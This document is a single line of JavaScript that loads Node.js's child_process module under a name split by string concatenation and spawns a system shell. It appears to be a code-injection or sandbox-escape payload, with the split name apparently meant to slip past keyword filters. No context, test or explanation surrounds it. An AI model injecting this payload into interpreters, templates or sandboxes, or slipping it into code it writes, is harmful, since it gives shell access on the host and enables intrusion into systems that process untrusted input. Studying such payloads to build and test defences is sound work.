require('child_'.concat('process')).spawnSync('sh')
